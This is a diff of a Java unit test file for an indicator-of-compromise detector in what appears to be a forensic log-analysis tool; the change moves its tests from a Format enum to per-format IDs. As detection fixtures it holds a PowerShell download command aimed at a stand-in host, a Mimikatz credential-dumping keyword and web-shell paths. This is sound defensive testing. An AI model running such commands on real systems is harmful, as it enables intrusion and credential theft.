@@ -4,8 +4,11 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import dwell.event.FormatId;
 import dwell.evidence.EvidenceItem;
-import dwell.format.Format;
+import dwell.format.evtx.EvtxLog;
+import dwell.format.exchange.MessageTrackingLog;
+import dwell.format.json.JsonLog;
 import dwell.hunt.Finding;
 import dwell.hunt.Level;
 import java.nio.file.Files;
@@ -49,7 +52,7 @@ class MatchingTest {
         assertEquals(1, d.match(Events.raw("Mar 3 04:05:06 fw query evil.example from 10.0.0.1")).size());
         assertEquals(0, d.match(Events.raw("Mar 3 04:05:06 fw query notevil.example")).size());
         // an event with a host field is not searched in its raw text
-        assertEquals(0, d.match(Events.of(Format.JSON, "Host", "good.example", "note", "evil.example")).size());
+        assertEquals(0, d.match(Events.of(JsonLog.ID, "Host", "good.example", "note", "evil.example")).size());
     }
 
     @Test
@@ -66,7 +69,7 @@ class MatchingTest {
         assertEquals(List.of(), values(d, Events.iis("c-ip", "2001:db8:2::")));
         assertEquals(List.of("203.0.113.10"), values(d, Events.iis("c-ip", "::ffff:203.0.113.10")), "v4-mapped");
         assertEquals(List.of("203.0.113.10"), values(d, Events.iis("cs(X-Forwarded-For)", "10.0.0.1, 203.0.113.10")), "lists");
-        assertEquals(List.of("203.0.113.10"), values(d, Events.of(Format.EVTX, "IpAddress", "203.0.113.10", "IpPort", "5555")));
+        assertEquals(List.of("203.0.113.10"), values(d, Events.of(EvtxLog.ID, "IpAddress", "203.0.113.10", "IpPort", "5555")));
         assertEquals(List.of(), values(d, Events.iis("c-ip", "10.0.0.1", "cs-uri-query", "x=203.0.113.10")),
                 "addresses are looked for in address fields; raw text only when the event has none");
         // raw fallback with number boundaries
@@ -85,9 +88,9 @@ class MatchingTest {
         assertEquals(0, d.match(Events.iis("cs-host", "mail.victim.example", "cs-uri-stem", "/owa/auth/other.aspx")).size());
         assertEquals(1, d.match(Events.iis("cs(Referer)", "http://drop.example/x.js?id=1")).size());
         assertEquals(0, d.match(Events.iis("cs(Referer)", "http://drop.example/x.js?id=2")).size(), "an indicator's query must match");
-        assertEquals(1, d.match(Events.of(Format.EVTX, "CommandLine", "powershell iwr http://drop.example/x.js?id=1 -o a")).size(),
+        assertEquals(1, d.match(Events.of(EvtxLog.ID, "CommandLine", "powershell iwr http://drop.example/x.js?id=1 -o a")).size(),
                 "substring in a command line");
-        assertEquals(0, d.match(Events.of(Format.EVTX, "CommandLine", "powershell iwr http://drop.example/x.js?id=12")).size());
+        assertEquals(0, d.match(Events.of(EvtxLog.ID, "CommandLine", "powershell iwr http://drop.example/x.js?id=12")).size());
     }
 
     @Test
@@ -96,7 +99,7 @@ class MatchingTest {
         String md5 = "d41d8cd98f00b204e9800998ecf8427e";
         IocDetector d = detector("sha256," + sha256 + ",90\nmd5," + md5 + ",40\n");
         List<Finding> out = new ArrayList<>();
-        d.onEvent(Events.of(Format.EVTX, "Image", "C:\\x.exe",
+        d.onEvent(Events.of(EvtxLog.ID, "Image", "C:\\x.exe",
                 "Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256="
                         + sha256.toUpperCase() + ",IMPHASH=00000000000000000000000000000000"), out::add);
         assertEquals(2, out.size(), "two indicators, two findings");
@@ -107,9 +110,9 @@ class MatchingTest {
         assertEquals("Hashes", bySha.details().get("field"));
         assertEquals("sha256", bySha.indicators().get(0).type());
         assertEquals(sha256, bySha.indicators().get(0).value());
-        assertEquals(1, d.match(Events.of(Format.JSON, "sha256", sha256)).size());
-        assertEquals(0, d.match(Events.of(Format.EVTX, "Hashes", "IMPHASH=" + md5)).size(), "an import hash is not a file hash");
-        assertEquals(0, d.match(Events.of(Format.EVTX, "CommandLine", "echo " + sha256)).size(), "hashes are looked for in hash fields");
+        assertEquals(1, d.match(Events.of(JsonLog.ID, "sha256", sha256)).size());
+        assertEquals(0, d.match(Events.of(EvtxLog.ID, "Hashes", "IMPHASH=" + md5)).size(), "an import hash is not a file hash");
+        assertEquals(0, d.match(Events.of(EvtxLog.ID, "CommandLine", "echo " + sha256)).size(), "hashes are looked for in hash fields");
     }
 
     @Test
@@ -118,13 +121,13 @@ class MatchingTest {
                 + "filename,*.tmp.exe,\nuser-agent,ExchangeScan 2.1,\n");
         assertEquals(List.of("supp0rt.aspx"), values(d, Events.iis("cs-uri-stem", "/owa/auth/SUPP0RT.aspx")));
         assertEquals(List.of("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx"),
-                values(d, Events.of(Format.EVTX, "TargetFilename", "c:\\INETPUB\\wwwroot\\aspnet_client\\system_web\\x.aspx")));
+                values(d, Events.of(EvtxLog.ID, "TargetFilename", "c:\\INETPUB\\wwwroot\\aspnet_client\\system_web\\x.aspx")));
         assertEquals(List.of(), values(d, Events.iis("cs-uri-stem", "/aspnet_client/system_web/x.aspx")),
                 "a web path is only the tail of the file path: not enough");
         assertEquals(List.of("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx"),
-                values(d, Events.of(Format.EVTX, "TargetFilename", "D:\\copy\\C\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx")),
+                values(d, Events.of(EvtxLog.ID, "TargetFilename", "D:\\copy\\C\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx")),
                 "a longer path ending with it at a directory boundary");
-        assertEquals(List.of("*.tmp.exe"), values(d, Events.of(Format.EVTX, "Image", "C:\\Temp\\a1b2.TMP.exe")));
+        assertEquals(List.of("*.tmp.exe"), values(d, Events.of(EvtxLog.ID, "Image", "C:\\Temp\\a1b2.TMP.exe")));
         assertEquals(List.of("ExchangeScan 2.1"), values(d, Events.iis("cs(User-Agent)", "Mozilla/5.0+ExchangeScan+2.1")),
                 "IIS writes spaces as +");
         assertEquals(List.of(), values(d, Events.iis("cs(User-Agent)", "Mozilla/5.0")));
@@ -139,7 +142,7 @@ class MatchingTest {
         IocDetector d = detector("md5," + md5 + ",\nfilename,shell.aspx,\n");
         assertTrue(d.wantsItems());
         List<Finding> out = new ArrayList<>();
-        d.onItem(new EvidenceItem("web.zip!/wwwroot/shell.aspx", 0, null, sha256, Format.UNKNOWN), file, out::add);
+        d.onItem(new EvidenceItem("web.zip!/wwwroot/shell.aspx", 0, null, sha256, FormatId.UNKNOWN), file, out::add);
         assertEquals(2, out.size());
         assertEquals(java.util.Set.of("file-md5", "evidence-path"),
                 java.util.Set.of(out.get(0).details().get("field"), out.get(1).details().get("field")),
@@ -154,8 +157,8 @@ class MatchingTest {
         Path f = dir.resolve("keywords.txt");
         Files.writeString(f, "sekurlsa::logonpasswords\n");
         IocDetector d = IocDetector.load(List.of(f));
-        assertEquals(1, d.match(Events.of(Format.EVTX, "CommandLine", "mimikatz sekurlsa::logonpasswords exit")).size());
-        assertEquals(0, d.match(Events.of(Format.EVTX, "CommandLine", "SEKURLSA::LOGONPASSWORDS")).size());
+        assertEquals(1, d.match(Events.of(EvtxLog.ID, "CommandLine", "mimikatz sekurlsa::logonpasswords exit")).size());
+        assertEquals(0, d.match(Events.of(EvtxLog.ID, "CommandLine", "SEKURLSA::LOGONPASSWORDS")).size());
     }
 
     @Test
@@ -175,7 +178,7 @@ class MatchingTest {
         IocDetector d = detector("domain,evil.example,\nemail,Bad.Actor@evil.example,\ncidr,203.0.113.0/24,\n");
         assertEquals(List.of("evil.example"), values(d, Events.iis("c-ip", "10.0.0.1", "cs-uri-query",
                 "url=https%3a%2f%2fcdn.evil.example%2fx")), "percent-encoded text is searched decoded");
-        assertEquals(List.of("bad.actor@evil.example", "evil.example"), values(d, Events.of(Format.EXCHANGE_MSGTRK,
+        assertEquals(List.of("bad.actor@evil.example", "evil.example"), values(d, Events.of(MessageTrackingLog.ID,
                 "sender-address", "SMTP:BAD.ACTOR@evil.example")), "the e-mail in its field, its domain by the raw-text fallback (the event has no host field)");
         assertEquals(List.of("203.0.113.0/24"), values(d, Events.raw("sshd: Failed password from 203.0.113.77 port 22")),
                 "ranges in the raw-text fallback");
@@ -199,7 +202,7 @@ class MatchingTest {
         String yaml = "roles:\n  source-address: [attacker]\ntypes:\n  ipv4: {roles: [source-address], raw-fallback: false}\n";
         FieldPlacement custom = FieldPlacement.load(new java.io.ByteArrayInputStream(yaml.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
         IocDetector d = IocDetector.load(List.of(f), custom);
-        assertEquals(1, d.match(Events.of(Format.JSON, "Attacker", "203.0.113.10")).size(), "field names are also matched case-insensitively");
+        assertEquals(1, d.match(Events.of(JsonLog.ID, "Attacker", "203.0.113.10")).size(), "field names are also matched case-insensitively");
         assertEquals(0, d.match(Events.iis("c-ip", "203.0.113.10")).size(), "c-ip plays no role in this table");
         assertEquals(0, d.match(Events.raw("from 203.0.113.10")).size(), "no raw fallback in this table");
         org.junit.jupiter.api.Assertions.assertThrows(java.io.IOException.class, () -> FieldPlacement.load(
